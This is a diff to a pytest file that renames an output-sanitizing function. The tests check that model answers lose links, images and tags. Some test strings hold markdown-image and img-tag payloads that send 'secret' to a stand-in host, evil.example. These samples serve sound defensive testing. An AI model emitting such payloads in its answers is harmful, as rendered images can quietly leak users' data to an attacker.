@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from model.text.output_text import plain
+from model.text.output_text import to_plain_text
 
 
 @pytest.mark.parametrize(
@@ -30,13 +30,13 @@ from model.text.output_text import plain
     ],
 )
 def test_links_images_tags_and_control_characters_do_not_pass(written: str, shown: str) -> None:
-    assert plain(written) == shown
+    assert to_plain_text(written) == shown
 
 
 def test_no_prefix_of_a_hostile_answer_ever_shows_its_address() -> None:
     written = "You get ![pixel](https://evil.example/p?d=secret) twelve weeks <img src=https://evil.example/x> [a](http://evil.example) ."
     for end in range(len(written) + 1):
-        shown = plain(written[:end])
+        shown = to_plain_text(written[:end])
         assert "evil.example" not in shown
         assert "http" not in shown
 
@@ -60,7 +60,7 @@ https://forms.corp.example/?id=7. Override __init__ and read arr[0]. In <b>x</b>
     ],
 )
 def test_an_address_a_placeholder_or_a_name_in_signs_of_the_page_is_kept(written: str, shown: str) -> None:
-    assert plain(written, PAGE) == shown
+    assert to_plain_text(written, PAGE) == shown
 
 
 @pytest.mark.parametrize(
@@ -85,7 +85,7 @@ def test_an_address_a_placeholder_or_a_name_in_signs_of_the_page_is_kept(written
     ],
 )
 def test_what_the_page_has_not_word_for_word_is_made_safe_as_ever(written: str, shown: str) -> None:
-    assert plain(written, PAGE) == shown
+    assert to_plain_text(written, PAGE) == shown
 
 
 @pytest.mark.parametrize(
@@ -103,13 +103,13 @@ def test_what_the_page_has_not_word_for_word_is_made_safe_as_ever(written: str, 
     ],
 )
 def test_joiners_and_signs_of_comparison_stay(written: str, shown: str) -> None:
-    assert plain(written) == shown
+    assert to_plain_text(written) == shown
 
 
 def test_no_prefix_of_an_answer_shows_a_longer_address_than_the_pages() -> None:
     written = "Open https://vpn.corp.example/start?q=secret and ![p](https://vpn.corp.example/start?d=1) or <img src=x> [a](http://e.example) ."
     for end in range(len(written) + 1):
-        shown = plain(written[:end], PAGE)
+        shown = to_plain_text(written[:end], PAGE)
         assert "secret" not in shown
         assert "](" not in shown
         assert "<img" not in shown
@@ -120,11 +120,11 @@ def test_no_prefix_of_an_answer_shows_a_longer_address_than_the_pages() -> None:
 )
 def test_hostile_answers_take_no_long(hostile: str) -> None:
     started = time.perf_counter()
-    plain(hostile, hostile)
+    to_plain_text(hostile, hostile)
     assert time.perf_counter() - started < 1
 
 
 def test_the_cases_of_what_a_model_writes_come_out_right(shared_data: Path) -> None:
     for path in sorted((shared_data / "cases").glob("model-*.json")):
         case = json.loads(path.read_text())
-        assert plain(case["written"], case.get("page", "")) == case["written"], path.name
+        assert to_plain_text(case["written"], case.get("page", "")) == case["written"], path.name
